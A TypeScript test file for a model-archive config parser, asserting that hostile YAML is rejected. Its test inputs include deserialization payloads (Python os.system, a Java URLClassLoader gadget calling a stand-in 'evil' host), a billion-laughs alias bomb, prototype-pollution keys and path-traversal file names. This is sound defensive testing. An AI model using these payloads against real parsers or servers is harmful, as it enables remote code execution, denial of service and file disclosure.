import { describe, expect, it } from 'vitest';
import { parseModelConfig } from '#libs/archive';
import { zipOf } from '../archive/hostile-archives.js';
import { storeFolder } from '../archive/model-store-folder.js';

async function configOf(yaml: string | Buffer, configFile = 'model-config.yaml') {
  const folder = await storeFolder();
  const manifest = JSON.stringify({ model: { modelName: 'm', configFile } });
  await folder.put(
    'm.mar',
    zipOf([
      { name: 'MAR-INF/MANIFEST.json', data: manifest },
      { name: 'model-config.yaml', data: yaml },
    ]),
  );
  const archive = await folder.store.open('m.mar');
  await archive.release();
  return archive.config;
}

describe('model-config.yaml of a hostile archive', () => {
  it.each([
    ['handler: !!js/function "function () { globalThis.ran = true }"'],
    ['handler: !!js/undefined ""'],
    ['handler: !!python/object/apply:os.system ["touch /tmp/evil"]'],
    [
      'handler: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]',
    ],
  ])('does not build objects from %s', async (yaml) => {
    const { raw, warnings } = await configOf(yaml);
    expect(raw).toEqual({});
    expect(warnings).toEqual([expect.stringContaining('the model is served without it')]);
    expect(globalThis).not.toHaveProperty('ran');
  });

  it('does not expand a billion laughs', () => {
    const levels = Array.from(
      { length: 12 },
      (_, i) => `a${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`,
    );
    const { raw, warnings } = parseModelConfig(['a0: &a0 lol', ...levels].join('\n'));
    expect(raw).toEqual({});
    expect(warnings).toEqual([expect.stringContaining('alias')]);
  });

  it.each([['__proto__'], ['constructor'], ['prototype']])(
    'lets the key %s reach no prototype',
    async (key) => {
      const { raw } = await configOf(`${key}:\n  polluted: true\nhandler:\n  ${key}:\n    polluted: true\n`);
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
      expect((raw as { polluted?: unknown }).polluted).toBeUndefined();
      expect(Object.getPrototypeOf(raw)).toBe(Object.prototype);
      expect(Object.assign({}, raw, raw['handler'])).not.toHaveProperty('polluted');
      expect({ ...raw }).not.toHaveProperty('polluted');
    },
  );

  it('takes no setting from a prototype', () => {
    expect(parseModelConfig('__proto__: {batchSize: 7}').batchSize).toBeUndefined();
  });

  it('does not parse ten megabytes', async () => {
    const { raw, warnings } = await configOf('a: 1\n'.padEnd(10 * 2 ** 20, '#'));
    expect(raw).toEqual({});
    expect(warnings).toEqual([expect.stringContaining('larger than')]);
  });

  it('survives nesting that overflows a stack', () => {
    expect(parseModelConfig('a: '.concat('['.repeat(100_000))).raw).toEqual({});
    expect(parseModelConfig('a: '.concat('{a: '.repeat(50_000))).raw).toEqual({});
  });

  it.each([['../../../../etc/hostname'], ['/etc/hostname'], ['MAR-INF'], ['.']])(
    'does not read %s',
    async (name) => {
      const { raw, warnings } = await configOf('batchSize: 2', name);
      expect(raw).toEqual({});
      expect(warnings).toEqual([expect.stringContaining('is not a file of the archive')]);
    },
  );
});
